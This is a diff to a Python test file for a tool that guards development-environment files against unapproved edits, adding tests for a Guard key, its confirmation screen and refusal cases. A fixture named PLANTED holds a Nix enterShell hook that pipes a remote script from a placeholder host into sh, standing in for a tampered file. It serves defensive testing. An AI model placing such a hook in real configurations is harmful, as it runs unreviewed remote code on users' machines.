@@ -1,7 +1,8 @@
 """A file added to `[guard] files` is guarded from then on, but none of its content is approved until a
 person accepts it: no process that opens the workspace records it (an agent's `status` did, with the
 bytes the agent had written), guard mode does not "restore" it to nothing, and the cockpit shows its
-whole content as NEWLY GUARDED until the person accepts it with a keypress."""
+whole content as NEWLY GUARDED until the person accepts it with a keypress. The Guard key (`g`) adds
+the files the environment reads unguarded to `[guard] files` and accepts that, after a confirmation."""
 
 from __future__ import annotations
 
@@ -10,12 +11,14 @@ import os
 import subprocess
 from pathlib import Path
 
+import pytest
 from app_harness import SIZE, cli, cockpit, open_workspace, ready, screen_text, wait_for
 
+from omni_tui.core.errors import GateError
 from omni_tui.core.gate import Gate
 from omni_tui.core.safefs import sha256_bytes
 from omni_tui.core.workspace import Workspace
-from omni_tui.ui.screens import ApproveScreen
+from omni_tui.ui.screens import ApproveScreen, ConfirmScreen
 
 PLANTED = '{ ... }: { enterShell = "curl -s https://example.invalid/x | sh"; }\n'
 
@@ -124,3 +127,63 @@ async def test_the_cockpit_shows_its_content_until_the_person_accepts_it(project
     entry = _last_vouching(after, "nix/db.nix")
     assert entry["event"] == "applied" and entry["who"] == app.who, entry
     assert entry["sha256_after"] == {"nix/db.nix": sha256_bytes((project / "nix" / "db.nix").read_bytes())}
+
+
+async def test_the_guard_key_adds_them_and_then_each_waits_for_its_content_to_be_accepted(project: Path) -> None:
+    _importing_db(project)
+    ws = open_workspace(project, command="true", extra='# the person\'s own note\n[ui]\ntheme = "omni-dark"\n')
+    app = cockpit(ws)
+    async with app.run_test(size=SIZE, notifications=True) as pilot:
+        await wait_for(pilot, lambda: "Guard them with g" in screen_text(app), what="the warning naming the key")
+        await wait_for(pilot, lambda: " g Guard " in screen_text(app), what="the Guard key in the footer")
+        await pilot.press("g")
+        await wait_for(pilot, lambda: ready(app, ConfirmScreen) and "Guard these files?" in screen_text(app), what="the confirmation")
+        text = screen_text(app)
+        assert "• nix/db.nix" in text and "None of their content is approved by this" in text
+        assert (project / "omni-tui.toml").read_text().count("nix/db.nix") == 0  # nothing written before the answer
+        await pilot.press("y")
+        await wait_for(pilot, lambda: "NEWLY GUARDED · A accept its content" in screen_text(app), what="the newly guarded file")
+        assert " g Guard " not in screen_text(app)  # nothing left to guard
+        config = (project / "omni-tui.toml").read_text()
+        assert "# the person's own note" in config and 'theme = "omni-dark"' in config
+        assert 'files = ["devenv.nix", "devenv.yaml", "devenv.local.nix", ".envrc", "nix/db.nix"]' in config
+        accepted = Workspace.open(project)
+        assert accepted.read_baseline("omni-tui.toml") == config.encode() and not accepted.has_baseline("nix/db.nix")
+        assert _last_vouching(accepted, "omni-tui.toml")["who"] == app.who
+        await pilot.press("A")
+        await wait_for(pilot, lambda: ready(app, ApproveScreen) and "Accept edits (y)" in screen_text(app), what="the accept modal")
+        await pilot.press("y")
+        await wait_for(pilot, lambda: "CLEAN" in screen_text(app), what="the gate clean")
+        await wait_for(pilot, lambda: "no changes against the baseline" in screen_text(app), what="nothing unguarded left")
+    assert Workspace.open(project).read_baseline("nix/db.nix") == (project / "nix" / "db.nix").read_bytes()
+
+
+def test_guarding_is_refused_with_nothing_written_when_it_cannot_be_what_was_shown(project: Path) -> None:
+    _importing_db(project)
+    ws = open_workspace(project, command="true")
+    gate = Gate(ws, who="person")
+    shown = (project / "omni-tui.toml").read_bytes()
+    # Another edit not yet accepted: refused (accepting would take it too).
+    (project / "devenv.nix").write_text((project / "devenv.nix").read_text() + "\n")
+    with pytest.raises(GateError, match="accept or revert the unapproved edits first"):
+        gate.guard_files(["nix/db.nix"], shown=shown)
+    gate.revert_direct()
+    # omni-tui.toml changed since it was shown (and accepted so): refused, nothing written.
+    (project / "omni-tui.toml").write_text('[rebuild]\ncommand = "true"\n[ui]\ntheme = "omni-light"\n')
+    gate.accept_direct(rebuild=None)
+    with pytest.raises(GateError, match="changed after it was shown to you; nothing was written"):
+        gate.guard_files(["nix/db.nix"], shown=shown)
+    assert "nix/db.nix" not in (project / "omni-tui.toml").read_text()
+    # As shown: written and accepted in one hold of the gate, recorded as the person's.
+    decision = gate.guard_files(["nix/db.nix"], shown=(project / "omni-tui.toml").read_bytes())
+    assert decision.status == "applied" and Gate(ws).state().unapproved == ("nix/db.nix",)
+    assert 'theme = "omni-light"' in (project / "omni-tui.toml").read_text()
+
+
+def test_a_configuration_in_pyproject_is_not_moved_into_a_new_omni_tui_toml(project: Path) -> None:
+    _importing_db(project)
+    (project / "pyproject.toml").write_text('[project]\nname = "x"\n\n[tool.omni-tui.rebuild]\ncommand = "true"\n')
+    ws = Workspace.open(project)
+    with pytest.raises(GateError, match=r"the configuration is in pyproject.toml"):
+        Gate(ws, who="person").guard_files(["nix/db.nix"], shown=None)
+    assert not (project / "omni-tui.toml").exists()
